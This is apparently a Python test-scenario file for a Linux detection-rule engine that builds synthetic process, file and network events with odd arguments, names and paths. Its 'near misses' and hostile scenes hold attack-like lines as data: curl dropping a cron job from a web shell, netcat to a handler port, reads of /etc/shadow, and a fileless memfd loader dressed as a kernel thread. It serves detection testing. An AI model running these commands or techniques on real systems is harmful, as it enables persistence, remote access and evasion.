"""Scenes of what is unusual and yet possible: odd arguments, names, paths, calls. Rules stumble over such things.

They are grouped with ordinary life or with attacks by what a rule would take them for.
"""

# ruff: noqa: S108 - a docstring tells the plot; paths and addresses are part of a story, nothing is opened
from __future__ import annotations

from typing import TYPE_CHECKING

from ruleglot.events.activity import (
    Access,
    Call,
    Connect,
    DirectoryCreate,
    Error,
    Exec,
    FileCreate,
    FileDelete,
    FileOpen,
    FileRename,
    MemoryFileCreate,
    Symlink,
)
from ruleglot.events.descriptors import Endpoint
from ruleglot.events.process import Process
from ruleglot.events.scenes.cast import CONSOLE, FAR_PTS, NAMELESS, NAMELESS_GROUP, ROOT, ROOT_GROUP, TTY
from ruleglot.events.scenes.stage import after

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ruleglot.events.activity import LinuxActivity
    from ruleglot.events.scenes.stage import Scene, Stage


def odd_arguments(stage: Stage) -> Iterator[LinuxActivity]:
    """Arguments that are empty, quoted, broken, not ASCII, very many, very long."""
    bash = stage.cast.bash
    odd = "ls '' \"it's\" 'say \"hi\"' 'two\nlines' 't[a]b*?' 'C:\\dir\\' ''"
    letters = "cat /home/bob/Müller/日本.txt 'naïve É'"
    many = "ls " + " ".join(f"file{number:02}.txt" for number in range(60))
    yield Exec(
        process=stage.start(bash, "/usr/bin/ls", odd),
        story="arguments that are empty, quoted, on two lines, full of wildcards",
    )
    yield Exec(
        process=stage.start(bash, "/usr/bin/cat", letters, cwd="/home/bob/Müller"),
        story="bob reads a file with a name that is not ASCII",
    )
    yield Exec(process=stage.start(bash, "/usr/bin/true", "''"), story="argv[0] is empty")
    yield Exec(process=stage.start(bash, "/usr/bin/echo", "echo ' ' '  '"), story="arguments of nothing but blanks")
    yield Exec(process=stage.start(bash, "/usr/bin/grep", "grep -- -rf notes.txt"), story="a word that looks like -rf")
    yield Exec(process=stage.start(bash, "/usr/bin/ls", many), story="sixty arguments")
    yield Exec(process=stage.start(bash, "/usr/bin/echo", f"echo {'x' * 3000}"), story="an argument of 3000 letters")
    yield Exec(process=stage.start(bash, "/usr/bin/echo", "echo '\t' 'a\tb'"), story="arguments with tabs")


def odd_names(stage: Stage) -> Iterator[LinuxActivity]:
    """Programs with long, short, capital, broken names."""
    bash, agent, systemd = stage.cast.bash, stage.cast.agent, stage.cast.systemd
    yield Exec(
        process=stage.start(systemd, "/usr/bin/systemd-detect-virt", "systemd-detect-virt --quiet"),
        story="a program with a name of 19 characters",
    )
    yield Exec(
        process=stage.start(bash, "/usr/local/bin/abcdefghijklmno"), story="a program with a name of 15 characters"
    )
    yield Exec(
        process=stage.start(bash, "/opt/Vendor/TOOL", "/opt/Vendor/TOOL --Help", cwd="/"), story="capital letters"
    )
    yield Exec(
        process=stage.start(bash, "/opt/my tools/do it.bin", "'do it.bin' 'a b'"), story="blanks in a program's path"
    )
    yield Exec(process=stage.start(agent, "/usr/bin/python3", "python3 -V"), story="through a link")
    yield Exec(process=stage.start(bash, "/usr/bin/[", "[ -f notes.txt ]"), story="a program that is called [")
    yield Exec(
        process=stage.start(bash, "/usr/local/bin/größe", "größe"), story="a program with a name that is not ASCII"
    )
    yield Exec(
        process=stage.start(agent, "/usr/bin/python3.11", "python3 worker.py", given_comm="worker/3"),
        story="a program that has renamed itself",
    )
    yield Exec(
        process=stage.start(stage.cast.cron, "/usr/local/bin/job", user=NAMELESS, group=NAMELESS_GROUP),
        story="a nameless user",
    )


def odd_terminals(stage: Stage) -> Iterator[LinuxActivity]:
    """Terminals other than the usual pts."""
    systemd, web_shell = stage.cast.systemd, stage.cast.web_shell
    yield Exec(
        process=stage.start(systemd, "/usr/sbin/agetty", "agetty console", terminal=CONSOLE, leads_session=True),
        story="a login prompt on the console",
    )
    yield Exec(
        process=stage.start(systemd, "/usr/bin/login", "login --", terminal=TTY, leads_session=True),
        story="a login on the first virtual console",
    )
    yield Exec(process=stage.start(stage.cast.bash, "/usr/bin/top", terminal=FAR_PTS), story="bob's 300th terminal")
    for terminal, story in ((CONSOLE, "on the console"), (TTY, "on a virtual console")):
        curl = stage.start(web_shell, "/usr/bin/curl", terminal=terminal)
        yield FileCreate(process=curl, path="/etc/x", story=story)


def odd_paths(stage: Stage) -> Iterator[LinuxActivity]:
    """Relative, climbing, unnormal, deep, not ASCII paths, and all calls that make files."""
    bash = stage.cast.bash
    logs = FileOpen(
        process=bash,
        path="/var/log/shop",
        access=Access.READ | Access.DIRECTORY,
        story="a directory is opened as a place to begin at",
    )
    deep = "/srv/" + "/".join(f"level-{number}" for number in range(40))
    yield FileCreate(process=bash, path="notes/My File.TXT", story="bob writes a note with a blank in its name")
    yield FileCreate(process=bash, path="../x", story="a relative path that climbs")
    yield FileCreate(process=bash, path="/tmp/../etc//cron.d/y", story="an absolute path that is not normal")
    yield FileCreate(process=bash, path="/tmp/created", call=Call.CREAT, story="a file made by creat")
    yield FileCreate(process=bash, path="/tmp/pipe", call=Call.MKNODAT, story="a pipe made by mknodat")
    yield FileCreate(process=bash, path="/tmp/日本.txt", call=Call.OPENAT2, story="a file made by openat2")
    yield FileCreate(process=bash, path="/tmp/made by open", call=Call.OPEN, story="a file made by open")
    yield FileCreate(process=bash, path="/tmp/fifo", call=Call.MKNOD, story="a pipe made by mknod")
    yield logs
    yield FileCreate(
        process=after(logs), path="today.log", base=logs.descriptor, story="a path that begins at an open directory"
    )
    yield FileOpen(
        process=after(logs),
        path="../auth.log",
        access=Access.READ,
        base=logs.descriptor,
        story="a path that climbs out of an open directory",
    )
    yield FileOpen(
        process=bash, path=".", access=Access.READ | Access.DIRECTORY, story="a directory is opened to be listed"
    )
    yield DirectoryCreate(process=bash, path=deep, story="a directory forty levels deep")
    yield FileCreate(process=bash, path="/tmp/two\nlines", story="a file whose name has two lines")
    yield FileCreate(process=bash, path="/tmp/*", story="a file whose name is a star")
    yield FileCreate(process=bash, path="/tmp/-rf", story="a file whose name looks like an option")
    yield FileCreate(process=bash, path="/etc/nope", error=Error.EACCES, story="bob may not write in /etc")
    yield FileOpen(
        process=bash, path="/usr/bin/ls", access=Access.WRITE, error=Error.EROFS, story="a disk is read-only"
    )
    yield FileOpen(
        process=bash, path="loop/loop", access=Access.READ, error=Error.ELOOP, story="links that go in circles"
    )
    yield FileOpen(
        process=bash, path="notes.txt/x", access=Access.READ, error=Error.ENOTDIR, story="a file taken for a directory"
    )


def near_misses(stage: Stage) -> Iterator[LinuxActivity]:
    """One step beside what rules look for."""
    bash, store = stage.cast.bash, stage.cast.details.store
    curl = stage.start(stage.cast.web_shell, "/usr/bin/curl", f"curl -o /etc/cron.d/x http://{store}/x")
    netcat = stage.start(bash, "/usr/bin/nc", f"nc {stage.cast.details.handler} 4445")
    mirror = stage.start(bash, "/usr/bin/echo", f"echo curl http://{store}/x")
    yield Exec(process=stage.start(bash, "/usr/bin/CURL", "CURL -S"), story="curl in capital letters")
    yield Exec(process=stage.start(bash, "/usr/bin/curlx"), story="a name that only begins like curl")
    yield Exec(process=stage.start(bash, "/home/bob/curl/run"), story="curl is a directory")
    yield Exec(process=mirror, story="curl is only an argument of echo")
    yield FileCreate(process=curl, path="/ETC/cron.d/x", story="a directory in capital letters")
    yield FileCreate(process=curl, path="/etcetera/x", story="a directory that only begins like /etc")
    yield FileCreate(process=curl, path="/etc/a/b/c/d", story="four levels deep")
    yield FileCreate(process=curl, path="/etc/cron.d/x", call=Call.CREAT, story="a cron job made by creat")
    yield FileOpen(
        process=curl, path="/etc/cron.d/x", access=Access.OVERWRITE, call=Call.CREAT, story="overwritten by creat"
    )
    yield FileOpen(process=bash, path="/etc/shadow-", access=Access.READ, error=Error.EACCES, story="shadow's old copy")
    yield FileOpen(
        process=bash, path="/home/bob/etc/shadow", access=Access.READ, story="a file called shadow, bob's own"
    )
    yield FileDelete(
        process=curl, path="/gone", call=Call.UNLINK, error=Error.ENOENT, story="there was nothing to remove"
    )
    yield FileRename(
        process=bash,
        original="/x/1",
        path="/x/2",
        call=Call.RENAMEAT,
        error=Error.EACCES,
        story="bob may not rename here",
    )
    yield Symlink(process=bash, target="/nowhere", path="dangling", call=Call.SYMLINK, story="a link to nothing")
    yield Connect(process=netcat, source=stage.here(), destination=stage.handler(4445), story="one port further")
    yield Connect(
        process=netcat,
        source=Endpoint(ip="::1", port=50000),
        destination=Endpoint(ip="::1", port=4444),
        error=Error.ECONNREFUSED,
        story="the port of a reverse shell, but at home",
    )


def odd_programs(stage: Stage) -> Iterator[LinuxActivity]:
    """Programs of which the sensor does not know all."""
    bash, runner = stage.cast.bash, stage.cast.runner_shell
    orphan = Process(
        executable="/opt/.hid/run",
        argv=("./.hid/run", "-c", "echo $((1+2)) | base64 -d"),
        invoked="./.hid/run",
        cwd="/opt",
        pid=next(stage.pids),
        user=ROOT,
        group=ROOT_GROUP,
    )
    yield Exec(process=orphan, story="a hidden program whose parent nobody knows")
    yield Exec(
        process=stage.start(bash, "/tmp/extremely_long_tool_name", "./extremely_long_tool_name -x", cwd="/tmp"),
        story="a long name in /tmp",
    )
    loader = stage.start(runner, "/builds/loader", "./loader", invoked="./loader")
    yield MemoryFileCreate(process=loader, name="kworker", number=4, story="a file that is in no directory")
    yield Exec(
        process=stage.start(loader, "memfd:kworker", "'[kworker/0:0]'", invoked="/proc/self/fd/4", layer=None),
        call=Call.EXECVEAT,
        story="a program that was never on a disk, dressed as a kernel thread",
    )


ORDINARY: tuple[Scene, ...] = (odd_arguments, odd_names, odd_terminals, odd_paths)
HOSTILE: tuple[Scene, ...] = (near_misses, odd_programs)
